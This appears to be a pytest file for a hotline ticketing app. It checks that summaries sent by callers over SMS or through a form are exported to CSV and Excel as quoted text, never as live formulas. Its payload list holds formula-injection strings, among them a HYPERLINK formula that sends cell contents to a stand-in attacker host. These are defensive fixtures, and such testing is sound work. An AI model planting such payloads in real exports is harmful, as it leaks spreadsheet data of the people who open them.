"""Formula injection: text from a caller never runs as a formula in a manager's CSV or Excel export.

Each payload arrives as a caller would send it -- a signed Twilio text message,
or an operator logging a call with it as the summary -- and a manager exports
the ticket list as CSV and as Excel.
"""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from hotline.extensions import db
from hotline.reports import export
from models.ticket import Ticket
from tests.conftest import login, post_form
from tests.twilio_helpers import sms_form, twilio_post

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
#: What each payload is once the channel has taken it in (both strip surrounding whitespace).
ARRIVES_AS = {p: p.strip() for p in PAYLOADS}
TODAY = "range=today"


def _sms(client, n: int, body: str) -> None:
    sid = f"SM{n:032d}"
    response = twilio_post(client, "/twilio/sms", sms_form(sid=sid, sender=f"+86138000000{n:02d}", body=body))
    assert response.status_code == 200


def _form(client, n: int, body: str) -> None:
    response = post_form(
        client,
        "/tickets/new",
        {
            "phone": f"138000000{n:02d}",
            "channel": "voice",
            "category": "illness_hardship",
            "priority": "P3",
            "summary": body,
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)


def _as(app, user):
    """A second browser, logged in as ``user``."""
    other = app.test_client()
    assert login(other, user.username).status_code == 302
    return other


def _summaries() -> dict[str, str]:
    return {t.number: t.summary for t in db.session.scalars(select(Ticket))}


def _csv_cells(client) -> tuple[dict[str, list[str]], int]:
    """The ticket list as CSV: rows by ticket number, and the index of the summary column."""
    response = client.get(f"/reports/export/list.csv?pop=tickets&set=all&{TODAY}")
    assert response.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    return {row[0]: row for row in rows}, header.index("摘要")


def _xlsx_sheet(client, url=f"/reports/export/list.xlsx?pop=tickets&set=all&{TODAY}"):
    response = client.get(url)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data))


def _no_formula_anywhere(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


@pytest.mark.parametrize("channel", ["sms", "form"])
def test_every_payload_is_text_in_both_exports(app, client, logged_in, operator, manager, channel):
    if channel == "sms":
        for n, payload in enumerate(PAYLOADS):
            _sms(client, n, payload)
    else:
        logged_in(operator)
        for n, payload in enumerate(PAYLOADS):
            _form(client, n, payload)
    summaries = _summaries()
    assert sorted(summaries.values()) == sorted(ARRIVES_AS.values())

    client = _as(app, manager)
    rows, col = _csv_cells(client)
    assert set(rows) == set(summaries)
    for number, summary in summaries.items():
        assert rows[number][col] == "'" + summary  # every payload starts like a formula

    book = _xlsx_sheet(client)
    _no_formula_anywhere(book)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    col = header.index("摘要")
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        cell = row[col]
        assert cell.data_type == "s" and cell.quotePrefix, (cell.value, cell.data_type)
        seen[row[0].value] = cell.value
    assert seen == summaries  # the text itself, exactly as it arrived


def test_numbers_stay_numbers_and_plain_text_is_untouched(app, client, logged_in, operator, manager):
    logged_in(operator)
    _form(client, 1, "=1+1")
    _form(client, 2, "低保咨询 -1 +1")
    client = _as(app, manager)
    book = _xlsx_sheet(client, f"/reports/export/dashboard.xlsx?{TODAY}")
    _no_formula_anywhere(book)
    numbers = [c for ws in book.worksheets for row in ws.iter_rows(min_row=2) for c in row if c.data_type == "n"]
    assert numbers and all(isinstance(c.value, int | float) or c.value is None for c in numbers)
    rows, col = _csv_cells(client)
    assert sorted(r[col] for r in rows.values()) == ["'=1+1", "低保咨询 -1 +1"]


@pytest.mark.parametrize(
    ("value", "csv_value", "quoted"),
    [
        *[(p, "'" + p, True) for p in PAYLOADS],
        ("＝HYPERLINK(1)", "'＝HYPERLINK(1)", True),  # full-width: NFKC makes it "="
        ("＋1", "'＋1", True),
        ("－1", "'－1", True),
        ("＠SUM(A1)", "'＠SUM(A1)", True),
        ("父亲住院 =1", "父亲住院 =1", False),
        ("", "", False),
        (None, "", False),
        (-5, -5, False),
        (2.5, 2.5, False),
    ],
)
def test_each_cell_in_both_formats(value, csv_value, quoted):
    table = export.Table("清单", ["摘要"], [[value]])
    cells = list(csv.reader(io.StringIO(export.to_csv([table]).decode("utf-8-sig"), newline="")))
    assert cells[1] == ([str(csv_value)] if value not in (None, "") else [""])
    sheet = load_workbook(io.BytesIO(export.to_xlsx([table]))).worksheets[0]
    cell = sheet["A2"]
    if isinstance(value, str) and value:
        # XML reads a bare carriage return back as a line feed.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", quoted)
    elif value in (None, ""):
        assert cell.value is None
    else:
        assert (cell.value, cell.data_type) == (value, "n")


def test_a_payload_in_a_sheet_title_or_header_is_text_too():
    table = export.Table("=cmd", ["=A1", "@x"], [["a", 1]])
    data = export.to_csv([table, export.Table("二", ["b"], [])]).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(data)))
    assert lines[0] == ["'=cmd"] and lines[1] == ["'=A1", "'@x"]
    book = load_workbook(io.BytesIO(export.to_xlsx([table])))
    _no_formula_anywhere(book)
    assert book.worksheets[0]["A1"].value == "=A1"
